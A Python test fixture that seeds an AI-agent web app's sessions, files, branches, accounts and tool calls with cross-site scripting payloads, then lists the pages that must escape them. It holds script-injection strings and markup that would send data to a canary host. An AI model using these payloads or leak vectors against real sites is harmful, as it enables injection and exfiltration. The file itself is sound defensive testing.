"""An installation in which every text that somebody else can choose is a payload: names, titles, outputs, files."""

from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

import sqlalchemy as sa

from app import db, ids, record
from app.accounts import service as accounts
from app.actor import Actor
from app.agent import profiles
from app.agent import service as agent
from app.approvals import service as approvals
from app.checkpoints import service as checkpoints
from app.invites import service as invites
from app.mcp import service as mcp
from app.notifications import service as notifications
from app.oidc import models as oidc
from app.processes import service as processes
from app.projects import service as projects
from app.secrets import service as secrets
from app.sessions import service as sessions
from app.terminals import service as terminals
from tests import repository
from tests.test_web_filters import PAYLOADS

PEER = Path(__file__).parent.parent / "mcp" / "peer.py"
ALL = "\n\n".join(PAYLOADS).replace("\0", "")
SAID = {
    **dict.fromkeys(("issuer", "authorization_endpoint", "token_endpoint", "jwks_uri"), "https://idp.example.com/x"),
    "algorithms": ["RS256"],
}
EVIL = "\"'><img src=x onerror=alert(1)><script>alert(1)</script>"
# On every page, and so not by what a page is known to show what it should.
OWNER = "\"'><svg onload=alert(2)><script>alert(2)</script>"
LINES = list(dict.fromkeys([*(one.replace("\0", "") for one in PAYLOADS), EVIL]))


def files(root: Path) -> Path:
    """A repository whose files, branches, modes, commands and instructions are made of payloads."""
    repository.make(root, files=3)
    for number, line in enumerate(LINES):
        name = line.replace("/", "\u2215").replace("\n", " ")[:80]
        (root / f"{name}{number}").write_text(line)
    for ending in ("md", "html", "svg", "py", "txt", "json"):
        (root / f"all.{ending}").write_text(ALL)
    modes = [
        {"slug": f"mode-{i}", "name": line, "roleDefinition": line, "groups": ["read"], "customInstructions": line}
        for i, line in enumerate(LINES)
    ]
    (root / ".roomodes").write_text(json.dumps({"customModes": modes}))
    (root / "AGENTS.md").write_text(ALL)
    commands = root / ".opencode" / "command"
    commands.mkdir(parents=True)
    for number, line in enumerate(LINES):
        (commands / f"c{number}.md").write_text(f"---\ndescription: {json.dumps(line)}\n---\n{line}\n")
    peer = PEER.read_text().replace('described = "Says it back."', f"described = {ALL!r}")
    (root / "peer.py").write_text(peer)
    repository.git(root, "add", "-A")
    as_test = ("-c", "user.name=Test", "-c", "user.email=test@example.com")
    repository.git(root, *as_test, "commit", "-q", "-m", EVIL)
    return root


def branches(root: Path) -> list[str]:
    """Branches with as much of each payload in their names as git takes; the last one is checked out."""
    made: list[str] = []
    for line in (*PAYLOADS, EVIL):
        name = re.sub(r"[\x00-\x20\x7f~^:?*\[\\]|\.\.|@\{", "_", line).strip("/.").replace("//", "/")
        done = subprocess.run(["git", "branch", name], cwd=root, check=False, capture_output=True)
        made += [name] if done.returncode == 0 else []
    repository.git(root, "checkout", "-q", made[-1])
    (root / "shop" / "basket.py").write_text(ALL)
    return made


def plant(table: str, column: str, key: str, keys: Sequence[str], texts: Iterable[str] = LINES) -> None:
    """Write payloads over a column of rows that are there, past whatever the verbs would refuse."""
    with db.transaction() as conn:
        for one, text in zip(keys, texts, strict=False):
            conn.exec_driver_sql(f'UPDATE "{table}" SET "{column}" = ? WHERE "{key}" = ?', (text, one))


class Planted:
    """What was made, by which pages can be found; alice owns it all."""

    def __init__(self, alice: Actor, canary: str) -> None:
        self.alice = alice
        self.place = projects.resolve(alice, None)
        self.canary = canary
        self.session = self._session("")
        self._people()
        self._accounts()
        self._tools()
        self.titled = [sessions.create(alice, self.place, title=line, provider="demo", model="demo") for line in LINES]
        self.slug = sessions.share(alice, self.session, output=True).share_slug
        self.asks = [self._ask("permission"), self._ask("question")]
        self._record()

    def pages(self) -> dict[str, str]:
        """Each page that shows foreign text, and a piece of text that must be on it."""
        key, session = self.place.project.id, self.session
        shown = dict.fromkeys(
            (
                *("/", "/sessions", f"/sessions/{session}", f"/sessions/{session}?tab=details", "/sessions?q=alert"),
                *(f"/sessions/{session}/changes", f"/sessions/{session}/share", f"/s/{self.slug}", "/inbox"),
                *(f"/inbox/{one}" for one in self.asks),
                *("/search?q=alert", "/projects", f"/browse/{key}", f"/browse/find/{key}?q=alert"),
                *(f"/browse/{key}/all.{ending}" for ending in ("md", "html", "py", "txt", "json")),
                *(f"/browse/{key}/{view}" for view in ("all.html?view=edit", "all.txt?view=remove", "?view=changes")),
                f"/browse/{key}/shop/basket.py?view=changes",
                *("/checkpoints", "/terminals", f"/terminals/{self.terminal}", "/mcp-servers", "/members"),
                *("/members/roles", "/secrets", "/audit", "/invites", "/account", "/account/notifications"),
                *("/commands", "/settings/modes", "/settings/profiles", "/settings/instructions"),
                *("/settings/providers", "/settings/models", "/settings/sign-in", "/settings/auto-approve"),
                *("/settings/configuration", "/settings/languages", "/settings/import"),
            ),
            "alert(1)",
        )
        names = (f"/browse/{key}/{line}" for line in ("<script>alert(1)</script>", EVIL.replace("/", "%2f")))
        errors = (f"/nosuch/{EVIL}", f"/sessions/{EVIL}", f"/inbox/{EVIL}", f"/members/roles/{EVIL}", *names)
        forms = (f"/sessions?tab={EVIL}", f"/search?q={EVIL}", f"/audit?action={EVIL}", f"/sessions?owner={EVIL}")
        return shown | dict.fromkeys((*errors, *forms, "/settings/providers", "/keys"), "")

    def say(self) -> None:
        """One more message with all of them, while a page is open."""
        sessions.send(self.alice, self.session, [{"type": "text", "text": f"{ALL}\n\nsaid live"}], no_reply=True)

    def _session(self, title: str) -> str:
        made = sessions.create(self.alice, self.place, title=title or EVIL, provider="demo", model="demo")
        texts = [{"type": "text", "text": line} for line in (*PAYLOADS, *self._leaks())]
        message, run_id = sessions.send(self.alice, made.id, [{"type": "text", "text": "Go on"}])
        hold = sessions.take(run_id or "")
        assert hold is not None
        said = sessions.add_message(hold, {"parentID": message.id})
        for text in texts:
            sessions.add_part(hold, said.id, "text", {"text": text["text"]})
        sessions.add_part(hold, said.id, "reasoning", {"text": ALL})
        checkpoints.before(hold, said.id, sessions.add_part(hold, said.id, "tool", self._call("edit", ALL)).id)
        for tool in TOOLS:
            for line in LINES if tool in ("bash", "unknown") else [ALL]:
                sessions.add_part(hold, said.id, "tool", self._call(tool, line))
        for tool in ("bash", "webfetch", "edit"):
            state = {**self._call(tool, ALL)["state"], "status": "error", "error": ALL}
            sessions.add_part(hold, said.id, "tool", {**self._call(tool, ALL), "state": state})
        sessions.set_todos(hold, [{"id": str(i), "content": line, "status": "pending"} for i, line in enumerate(LINES)])
        (Path(made.directory) / "fresh.txt").write_text(ALL)
        checkpoints.after(hold, said.id, said.id)
        sessions.finish(hold, "failed", {"name": EVIL, "data": {"message": ALL}})
        sessions.send(self.alice, made.id, texts, no_reply=True)
        return made.id

    def _leaks(self) -> list[str]:
        """Ways in which a rendered text could tell another server something."""
        url = f"{self.canary}?d=secret"
        return [
            *(f"![x]({url})", f"[x]({url})", f"<img src='{url}'>", f"[![x]({url})]({url})", f"![x]: {url}"),
            *(f"<link rel=stylesheet href='{url}'>", f"<link rel=prefetch href='{url}'>", f"<{url}>", url),
            *(f"<style>body{{background:url({url})}}</style>", f"<p style='background:url({url})'>x</p>"),
            *(f"<video poster='{url}'></video>", f"<svg><image href='{url}'/></svg>", f"<iframe src='{url}'></iframe>"),
            f"![x][r]\n\n[r]: {url}",
        ]

    def _call(self, tool: str, text: str) -> dict[str, Any]:
        """A tool call in which everything that a tool or a model says is this text."""
        patch = f"--- a/{EVIL}\n+++ b/{EVIL}\n@@ -1 +1 @@ {EVIL}\n-{EVIL}\n+{EVIL}\n"
        todos = [{"content": text, "status": "completed"}]
        names = ("command", "filePath", "path", "pattern", "url", "query", "description", "subagent_type", "mode")
        given = {
            **dict.fromkeys((*names, "oldString", "newString", "content", "skill", "reason"), text),
            "todos": todos,
        }
        told = {**dict.fromkeys(("host", "status", "description", "title"), text), "diff": patch, "output": text}
        times = {"start": ids.now(), "end": ids.now()}
        state = {"status": "completed", "input": given, "output": text, "title": text, "metadata": told, "time": times}
        return {"tool": tool if tool != "unknown" else EVIL, "callID": ids.random("call"), "state": state}

    def _ask(self, kind: str) -> str:
        made = sessions.create(self.alice, self.place, title=EVIL, provider="demo", model="demo")
        _message, run_id = sessions.send(self.alice, made.id, [{"type": "text", "text": ALL}])
        hold = sessions.take(run_id or "")
        assert hold is not None
        said = sessions.add_message(hold, {"parentID": ""})
        part = sessions.add_part(hold, said.id, "tool", {"tool": "bash", "state": {"status": "pending"}})
        call = approvals.Call("bash", {"command": ALL, "description": EVIL}, ids.random("call"), said.id, part.id)
        if kind == "question":
            options = [{"label": line, "description": line} for line in LINES[:8]]
            asked = approvals.question(hold, call, [{"question": ALL, "header": EVIL[:30], "options": options}])
        else:
            asked = approvals.ask(hold, call, approvals.decide(hold, call))
        sessions.wait(hold, lambda connection: approvals.is_waiting(connection, hold.run_id))
        return asked.id

    def _people(self) -> None:
        alice = self.alice
        people = [accounts.create_user(alice, f"Guest {i}", None, "viewer").id for i, _ in enumerate(LINES)]
        plant("user", "name", "id", people)
        plant("user", "email", "id", people, [f"{line}{i}" for i, line in enumerate(LINES)])
        plant("user", "name", "id", [alice.user], [OWNER])
        roles = [accounts.create_role(alice, f"role{i}", description=line).name for i, line in enumerate(LINES)]
        plant("role", "name", "name", roles[:-1])
        invited = [
            invites.invite(alice, f"guest{i}@example.com", ("viewer",)).invite.id for i, _ in enumerate(LINES[:20])
        ]
        plant("sign_in_link", "email", "id", invited, LINES[20:])
        plant("sign_in_link", "mail_said", "id", invited)

    def _accounts(self) -> None:
        alice = self.alice
        tokens = [accounts.mint_token(alice, f"token{i}")[0].id for i, _ in enumerate(LINES)]
        plant("token", "name", "id", tokens)
        for number, _line in enumerate(LINES):
            secrets.put(alice, "platform", f"SECRET_{number}", "the-value-of-a-secret")
        plant("secret", "name", "name", [f"SECRET_{number}" for number, _ in enumerate(LINES)])
        hooks = [notifications.add_webhook(alice, f"h{i}", f"https://hooks.example.com/{i}")[0].id for i in range(10)]
        for column, at in (("name", 0), ("address", 20), ("ended", 40)):
            plant("notification_channel", column, "id", hooks, LINES[at:])
        saved = [profiles.save(alice, self.place, f"p{i}", "demo", "demo").id for i, _ in enumerate(LINES)]
        plant("agent_profile", "name", "id", saved)
        given = {
            "client_id": "x",
            "scopes": [EVIL],
            "auto_register": True,
            "default_role": "viewer",
            "role_claim": EVIL,
        }
        more = {
            "role_map": {},
            "ceiling": [],
            "set_by": alice.user,
            "said": SAID,
            "fetched": 0,
            "created": 0,
            "updated": 0,
        }
        with db.transaction() as conn:
            for number, line in enumerate(LINES):
                row = {"id": f"p{number}", "name": line, "issuer": f"https://idp.example.com/{line}", "enabled": True}
                conn.execute(sa.insert(oidc.provider), {**row, **given, **more})

    def _tools(self) -> None:
        wanted = mcp.Wanted("local", ("python3", "peer.py"), timeout=60_000)
        state = mcp.add(self.alice, self.place, "peer", wanted)
        assert state.state == "connected", state
        agent.add_provider(self.alice, "rack", "https://models.example.com/v1")
        terminal = terminals.create(self.alice, self.place, command=("cat", "all.txt"), title=EVIL)
        self.terminal = terminal.id
        processes.start(self.alice, self.place, ("echo", ALL))

    def _record(self) -> None:
        with db.transaction() as conn:
            for line in LINES:
                record.audit(conn, self.alice, "session.create", line[:250], {"title": line, line: line})
            conn.exec_driver_sql("UPDATE project SET name = ? WHERE id = ?", (EVIL, self.place.project.id))


TOOLS = (
    *("bash", "read", "grep", "glob", "list", "edit", "write", "patch", "apply_patch", "webfetch", "websearch"),
    *("todowrite", "task", "new_task", "question", "skill", "invalid", "switch_mode", "peer_echo", "unknown"),
)
